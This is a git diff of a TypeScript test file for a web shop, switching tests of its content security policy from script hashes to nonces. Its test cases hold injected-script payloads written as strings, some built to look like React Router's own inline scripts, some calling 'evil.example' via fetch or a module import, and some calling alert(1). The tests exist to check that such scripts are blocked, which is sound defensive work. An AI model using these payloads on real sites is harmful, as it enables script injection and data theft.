@@ -3,7 +3,7 @@ import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import PostalMime from 'postal-mime'
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
-import { ownScripts, pagePolicy } from '../../src/api/serving/page-policy.ts'
+import { protectPage } from '../../src/api/serving/page-policy.ts'
 import { payAtTestGateway } from '../../src/shop/payments/pay-at-test-gateway.ts'
 import { startPayment } from '../../src/shop/payments/start-payment.ts'
 import { signUp } from '../signed-in-person.ts'
@@ -92,36 +92,31 @@ test('the product page shows its text as text', async () => {
 })
 
 describe('a script that was injected anyway', () => {
-  const spoil = async (script: string) => {
-    const { html } = await page('/')
-    const own = ownScripts([(await page('/blogs')).html])
-    return {
-      clean: pagePolicy(html, own, false),
-      spoilt: pagePolicy(html.replace('</body>', `<script>${script}</script></body>`), own, false),
-    }
+  const nonce = 'b0f5f5a8'
+  /** The page as it is rendered: its own inline scripts carry the nonce. */
+  const rendered = async () => {
+    const { html, policy } = await page('/')
+    return { html: html.replace(/<script\b(?![^>]*(?:\bsrc=|json"))/g, `<script nonce="${nonce}"`), served: { html, policy } }
   }
 
+  test('is the only one without a nonce: the scripts of the page have one, and it leaves with none', async () => {
+    const { html, served } = await rendered()
+    expect(protectPage(html, nonce, false)).toEqual(served)
+    expect(served.html).not.toContain('nonce=')
+  })
+
   test.each([
-    ['of its own', 'window.stolen=1'],
-    ['that begins like React Router’s', 'window.__reactRouterContext.streamController.close();stolen=1'],
-    ['that ends like React Router’s', 'stolen=1;window.__reactRouterContext.streamController.close();'],
-    ['within React Router’s data', 'window.__reactRouterContext.streamController.enqueue(""+fetch("https://evil.example")+"");'],
-    [
-      'within React Router’s context',
-      'window.__reactRouterContext = {"a":alert(1)};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());',
-    ],
-    [
-      'that imports',
-      'import * as route0 from "https://evil.example/a.js";window.__reactRouterManifest = {};window.__reactRouterRouteModules = {"root":route0};import("/assets/entry.js");',
-    ],
-    [
-      'within the manifest',
-      'import * as route0 from "/assets/a.js";window.__reactRouterManifest = {"a":alert(1)};window.__reactRouterRouteModules = {"root":route0};import("/assets/entry.js");',
-    ],
-  ])('%s has no hash and does not run', async (_what, script) => {
-    const { clean, spoilt } = await spoil(script)
-    expect(spoilt).toBe(clean)
-    expect(spoilt).not.toContain(hashOf(script))
+    ['of its own', 'window.stolen=1', ''],
+    ['with the nonce of another rendering', 'window.stolen=1', ' nonce="b0f5f5a9"'],
+    ['with an empty nonce', 'window.stolen=1', ' nonce'],
+    ['that begins like React Router’s', 'window.__reactRouterContext.streamController.close();stolen=1', ''],
+    ['within React Router’s data', 'window.__reactRouterContext.streamController.enqueue(""+fetch("https://evil.example")+"");', ''],
+    ['that imports', 'import * as route0 from "https://evil.example/a.js";import("/assets/entry.js");', ' type="module"'],
+  ])('%s has no hash and does not run', async (_what, script, attributes) => {
+    const { html, served } = await rendered()
+    const spoilt = protectPage(html.replace('</body>', `<script${attributes}>${script}</script></body>`), nonce, false)
+    expect(spoilt.policy).toBe(served.policy)
+    expect(spoilt.policy).not.toContain(hashOf(script))
   })
 })
 
